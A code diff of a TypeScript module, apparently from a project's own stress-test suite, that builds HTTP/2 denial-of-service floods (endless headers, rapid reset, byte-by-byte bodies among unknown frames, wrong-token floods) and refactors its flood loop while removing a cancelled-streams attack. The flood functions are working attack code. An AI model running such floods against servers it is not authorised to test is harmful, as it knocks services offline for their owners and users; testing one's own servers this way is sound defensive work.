@@ -1,24 +1,26 @@
 // Endless frames that are cheap to send and expensive to process.
-import type { Socket } from "node:net";
 import { createRandom } from "../../../test/random.ts";
-import { END_HEADERS, END_STREAM, FRAME, fields, frame, text, uint32 } from "../frame.ts";
+import { END_HEADERS, END_STREAM, FRAME, fields, frame, text, uint32 } from "../../frame.ts";
 import {
   type Attack,
   add,
+  GRPC,
   openRaw,
   pause,
   request,
   type Tally,
   type Target,
+  WATCH,
   writeAll,
 } from "../target.ts";
 
 const PATH = "/api/public/settings";
 
 /**
- * Writes the results of `next` repeatedly, on a new connection when the server closes one.
+ * Writes the results of a function repeatedly, over two connections at a time, each of them a new
+ * one when the server closes it or the result is empty.
  *
- * @param rounds maximum number of connections.
+ * @param next creates the function for a connection, from its number.
  */
 function flood(next: (target: Target, round: number) => (count: number) => Buffer): Attack {
   return async (target, signal) => {
@@ -28,28 +30,19 @@ function flood(next: (target: Target, round: number) => (count: number) => Buffe
         const socket = await openRaw(target);
         add(tally, "connections");
         const make = next(target, round);
-        await pour(socket, make, tally, signal);
+        for (let count = 0; ; count += 1) {
+          const bytes = make(count);
+          if (bytes.length === 0 || !(await writeAll(socket, bytes, signal))) break;
+          add(tally, "MB sent", bytes.length / 1e6);
+          // Lets events of the socket run, such as a close by the server.
+          if (count % 16 === 0) await pause(0, signal);
+        }
         socket.destroy();
       }
     };
     await Promise.all([one(), one()]);
     return tally;
   };
-}
-
-async function pour(
-  socket: Socket,
-  make: (count: number) => Buffer,
-  tally: Tally,
-  signal: AbortSignal,
-): Promise<void> {
-  for (let count = 0; !signal.aborted; count += 1) {
-    const bytes = make(count);
-    if (bytes.length === 0 || !(await writeAll(socket, bytes, signal))) return;
-    add(tally, "MB sent", bytes.length / 1e6);
-    // Lets events of the socket run, such as a close by the server.
-    if (count % 16 === 0) await pause(0, signal);
-  }
 }
 
 /** A request with endless headers (CVE-2024-27316 and others). */
@@ -93,7 +86,7 @@ export const rapidReset = flood(() => {
     if (stream > 20_000) return Buffer.of();
     return repeat(16, () => {
       stream += 2;
-      const head = fields(request("/mooring.v1.PublicService/WatchPublicSettings", GRPC));
+      const head = fields(request(WATCH, GRPC));
       return Buffer.concat([
         frame(FRAME.headers, END_HEADERS, stream, head),
         frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5)),
@@ -102,8 +95,6 @@ export const rapidReset = flood(() => {
     });
   };
 });
-
-const GRPC = { "content-type": "application/grpc", te: "trailers" };
 
 /**
  * Bodies sent byte by byte, each byte between 48 kB of meaningless frames: a server that keeps
@@ -125,34 +116,6 @@ export const slivers = flood(() => {
 
 /** An undefined frame type, which has to be ignored (RFC 9113, section 4.1). */
 const UNKNOWN = 0x42;
-
-/**
- * 895 calls of one connection, canceled within two and a half seconds, as by a legitimate client.
- */
-export const cancelledStreams: Attack = async (target, signal) => {
-  const tally: Tally = { streams: 0, "connections closed": 0 };
-  const one = async (): Promise<void> => {
-    const socket = await openRaw(target);
-    socket.once("close", () => {
-      add(tally, "connections closed");
-    });
-    for (let count = 0; count < 895 && !signal.aborted; count += 1) {
-      const stream = 1 + 2 * count;
-      const head = fields(request("/mooring.v1.PublicService/WatchPublicSettings", GRPC));
-      const opened = Buffer.concat([
-        frame(FRAME.headers, END_HEADERS, stream, head),
-        frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5)),
-      ]);
-      if (!(await writeAll(socket, opened, signal))) return;
-      await pause(2, signal);
-      if (!(await writeAll(socket, frame(FRAME.reset, 0, stream, uint32(8)), signal))) return;
-      add(tally, "streams");
-    }
-    socket.destroy();
-  };
-  await Promise.all([one(), one()]);
-  return tally;
-};
 
 /** Wrong tokens, as fast as the server refuses them. */
 export const wrongTokens = flood(({ seed }, round) => {
